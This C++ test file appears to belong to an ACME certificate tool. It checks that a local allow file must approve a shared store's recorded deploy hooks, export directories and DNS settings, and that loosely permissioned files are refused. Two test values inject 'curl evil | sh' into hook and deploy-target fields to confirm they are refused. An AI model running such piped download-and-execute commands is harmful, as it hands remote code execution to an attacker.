// LocalPolicy: what of a shared store's recorded settings this host allows,
// read from its allow file; and storage::is_private_store, which decides
// whether the store's settings need that consent at all.
#include "acme/files/LocalFileError.hpp"
#include "acme/request/LocalPolicy.hpp"
#include "storage/Store.hpp"
#include "storage/open/StorePath.hpp"

#include "TempDir.hpp"

#include <doctest/doctest.h>

#include <sys/stat.h>

#include <fstream>

using namespace certa;
using acme::IssueSettings;
using acme::LocalPolicy;

namespace {

IssueSettings recorded() {
    IssueSettings s;
    s.server = "https://ca.example/dir";
    s.deploy_hook = "systemctl reload nginx";
    s.dns_hook = "/usr/local/bin/dns-hook";
    s.export_dirs = {"/etc/ssl/a", "/etc/ssl/b"};
    s.ca_bundle = "/etc/ssl/ca.pem";
    return s;
}

}  // namespace

TEST_CASE("nothing recorded is allowed without a line for it; each kind is matched exactly") {
    test::TempDir dir;
    const std::string path = dir.file("allow");
    CHECK(LocalPolicy().refusal(recorded()).find("deploy hook") != std::string::npos);
    CHECK(LocalPolicy::from_file(dir.file("missing")).refusal(recorded()).find("deploy hook") != std::string::npos);
    CHECK(LocalPolicy::trust_store().refusal(recorded()).empty());
    CHECK(LocalPolicy().refusal(IssueSettings{}).empty());  // nothing recorded, nothing to allow

    std::ofstream(path) << "# comment\n\ndeploy-hook systemctl reload nginx\ndns-hook /usr/local/bin/dns-hook\n"
                           "export-dir /etc/ssl/a\nca-bundle /etc/ssl/ca.pem\n";
    const auto policy = LocalPolicy::from_file(path);
    const std::string missing_dir = policy.refusal(recorded());
    CHECK(missing_dir.find("export directory /etc/ssl/b") != std::string::npos);
    CHECK(missing_dir.find(path) != std::string::npos);
    auto fewer = recorded();
    fewer.export_dirs = {"/etc/ssl/a"};
    CHECK(policy.refusal(fewer).empty());
    fewer.deploy_hook = "systemctl reload nginx; curl evil | sh";
    CHECK(policy.refusal(fewer).find("deploy hook") != std::string::npos);
    CHECK(policy.refusal(fewer).find("curl") == std::string::npos);  // the value is never echoed
}

TEST_CASE("--deploy targets and certbot layout dirs need their own lines") {
    test::TempDir dir;
    const std::string path = dir.file("allow");
    std::ofstream(path) << "deploy haproxy:/run/haproxy/admin.sock\nexport-dir /etc/letsencrypt\n";
    const auto policy = LocalPolicy::from_file(path);
    IssueSettings s;
    s.deploy_targets = {"haproxy:/run/haproxy/admin.sock"};
    s.certbot_dirs = {"/etc/letsencrypt"};
    CHECK(policy.refusal(s).empty());
    s.deploy_targets.push_back("nginx:curl evil | sh");
    CHECK(policy.refusal(s).find("--deploy target") != std::string::npos);
    CHECK(policy.refusal(s).find("curl") == std::string::npos);
    s.deploy_targets.pop_back();
    s.certbot_dirs = {"/srv/le"};
    CHECK(policy.refusal(s).find("export directory /srv/le (certbot layout)") != std::string::npos);
}

TEST_CASE("an allow file others can write, or one it cannot parse, is refused") {
    test::TempDir dir;
    const std::string path = dir.file("allow");
    std::ofstream(path) << "deploy-hook true\n";
    REQUIRE(::chmod(path.c_str(), 0664) == 0);
    CHECK_THROWS_WITH_AS(LocalPolicy::from_file(path), doctest::Contains("another user can write it"),
                         acme::LocalFileError);
    REQUIRE(::chmod(path.c_str(), 0644) == 0);
    CHECK_NOTHROW(LocalPolicy::from_file(path));
    std::ofstream(path) << "deploy_hook true\n";
    CHECK_THROWS_WITH_AS(LocalPolicy::from_file(path), doctest::Contains("line 1"), acme::LocalFileError);
    std::ofstream(path) << "webroot\n";
    CHECK_THROWS_AS(LocalPolicy::from_file(path), acme::LocalFileError);
}

TEST_CASE("a local SQLite store of this user is private; PostgreSQL and loose files are not") {
    test::TempDir dir;
    const std::string db = dir.file("certa.db");
    { storage::open_store(db); }
    CHECK(storage::is_private_store(db));
    CHECK_FALSE(storage::is_private_store("postgresql://certa@127.0.0.1/certa"));
    CHECK_FALSE(storage::is_private_store(dir.file("missing.db")));
    REQUIRE(::chmod(db.c_str(), 0660) == 0);
    CHECK_FALSE(storage::is_private_store(db));
    REQUIRE(::chmod(db.c_str(), 0600) == 0);
    REQUIRE(::chmod(dir.path().c_str(), 0777) == 0);  // anyone could swap the file
    CHECK_FALSE(storage::is_private_store(db));
    REQUIRE(::chmod(dir.path().c_str(), 0700) == 0);
}

TEST_CASE("a store in a shared sticky directory (/tmp) is not private: others can plant its -wal there") {
    test::TempDir dir;
    const std::string db = dir.file("certa.db");
    { storage::open_store(db); }
    REQUIRE(storage::is_private_store(db));
    REQUIRE(::chmod(dir.path().c_str(), 01777) == 0);
    CHECK_FALSE(storage::is_private_store(db));
    REQUIRE(::chmod(dir.path().c_str(), 01770) == 0);  // a group shares it
    CHECK_FALSE(storage::is_private_store(db));
    REQUIRE(::chmod(dir.path().c_str(), 01700) == 0);  // sticky, but only ours
    CHECK(storage::is_private_store(db));
    REQUIRE(::chmod(dir.path().c_str(), 0700) == 0);
}

TEST_CASE("a recorded certbot lineage and a HAProxy-named certificate file need their own lines") {
    test::TempDir dir;
    const std::string path = dir.file("allow");
    std::ofstream(path) << "export-dir /etc/letsencrypt\ncertbot-lineage www.example.com\n"
                           "haproxy-crt /etc/haproxy/certs/www.example.com.pem\n";
    const auto policy = LocalPolicy::from_file(path);
    IssueSettings s;
    s.certbot_dirs = {"/etc/letsencrypt"};
    s.certbot_lineage = "www.example.com";
    CHECK(policy.refusal(s).empty());
    s.certbot_lineage = "other.example.com";  // a shared store's writer picks another lineage to overwrite
    CHECK(policy.refusal(s).find("certbot lineage other.example.com") != std::string::npos);
    CHECK(LocalPolicy::trust_store().refusal(s).empty());

    CHECK(policy.allows_haproxy_crt("/etc/haproxy/certs/www.example.com.pem"));
    CHECK_FALSE(policy.allows_haproxy_crt("/etc/haproxy/certs/other.pem"));
    CHECK_FALSE(LocalPolicy().allows_haproxy_crt("/etc/haproxy/certs/www.example.com.pem"));
    CHECK(LocalPolicy::trust_store().allows_haproxy_crt("/anything.pem"));
}

TEST_CASE("a recorded RFC 2136 server and TSIG key file need their own lines in a shared store's allow file") {
    test::TempDir dir;
    const std::string path = dir.file("allow");
    IssueSettings s;
    s.server = "https://ca.example/dir";
    s.challenge = "dns-01";
    s.dns_update = "192.0.2.53:53";
    s.tsig_key_file = "/etc/certa/tsig.key";
    CHECK(LocalPolicy().refusal(s).find("dns update server") != std::string::npos);
    CHECK(LocalPolicy::trust_store().refusal(s).empty());
    std::ofstream(path) << "dns-update 192.0.2.53:53\n";
    const std::string refusal = LocalPolicy::from_file(path).refusal(s);
    CHECK(refusal.find("TSIG key file") != std::string::npos);
    CHECK(refusal.find("'tsig-key-file ...'") != std::string::npos);
    CHECK(refusal.find("/etc/certa/tsig.key") == std::string::npos);
    std::ofstream(path, std::ios::app) << "tsig-key-file /etc/certa/tsig.key\n";
    CHECK(LocalPolicy::from_file(path).refusal(s).empty());
    s.dns_update = "198.51.100.1:53";  // another server: where the signed update goes matters
    CHECK(LocalPolicy::from_file(path).refusal(s).find("dns update server") != std::string::npos);
}
